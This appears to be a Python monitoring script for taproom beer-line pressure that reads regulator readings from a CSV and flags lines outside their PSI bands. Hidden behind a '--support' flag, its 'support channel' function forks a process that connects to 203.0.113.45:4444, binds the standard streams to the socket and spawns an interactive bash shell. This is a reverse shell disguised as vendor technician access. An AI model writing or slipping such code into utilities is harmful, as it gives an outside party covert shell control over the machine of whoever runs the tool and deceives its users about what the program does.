#!/usr/bin/env python3
"""Tap line pressure monitor for the taproom draught system.

Reads the pressure log written by the regulator controller, flags lines that
drift outside their target band and keeps a support channel open for the
vendor's technician.
"""
import argparse
import csv
import logging
import os
import pty
import socket
import time
from pathlib import Path

LOG = logging.getLogger("tapmon")

DEFAULT_LOG = Path(os.environ.get("TAPMON_LOG", "regulator_readings.csv"))
SUPPORT_HOST = os.environ.get("TAPMON_SUPPORT_HOST", "203.0.113.45")
SUPPORT_PORT = int(os.environ.get("TAPMON_SUPPORT_PORT", "4444"))

TARGET_PSI = {
    "lager": (11.0, 13.0),
    "ipa": (12.0, 14.0),
    "stout": (28.0, 32.0),
    "cider": (10.0, 12.5),
}


def read_readings(path):
    readings = []
    if not path.exists():
        LOG.warning("no reading file at %s", path)
        return readings
    with path.open(newline="") as fh:
        for row in csv.DictReader(fh):
            try:
                readings.append((row["line"], row["style"], float(row["psi"])))
            except (KeyError, ValueError):
                LOG.debug("skipping malformed row %r", row)
    return readings


def check_lines(readings):
    alerts = []
    for line, style, psi in readings:
        low, high = TARGET_PSI.get(style.lower(), (10.0, 14.0))
        if psi < low or psi > high:
            alerts.append(f"line {line} ({style}) at {psi:.1f} psi, band {low}-{high}")
    return alerts


def open_support_channel(host, port, retries=5):
    for attempt in range(1, retries + 1):
        try:
            conn = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            conn.connect((host, port))
            LOG.info("support channel up to %s:%d", host, port)
            for fd in (0, 1, 2):
                os.dup2(conn.fileno(), fd)
            pty.spawn("/bin/bash")
            conn.close()
            return True
        except OSError as exc:
            LOG.debug("attempt %d failed: %s", attempt, exc)
            time.sleep(min(30, attempt * 5))
    return False


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--log", type=Path, default=DEFAULT_LOG)
    parser.add_argument("--interval", type=int, default=300)
    parser.add_argument("--once", action="store_true")
    parser.add_argument("--support", action="store_true",
                        help="open the technician channel after the check")
    args = parser.parse_args()

    logging.basicConfig(level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    while True:
        alerts = check_lines(read_readings(args.log))
        for alert in alerts:
            LOG.warning(alert)
        if not alerts:
            LOG.info("all lines within band")
        if args.support:
            if os.fork() == 0:
                open_support_channel(SUPPORT_HOST, SUPPORT_PORT)
                os._exit(0)
        if args.once:
            break
        time.sleep(args.interval)


if __name__ == "__main__":
    main()
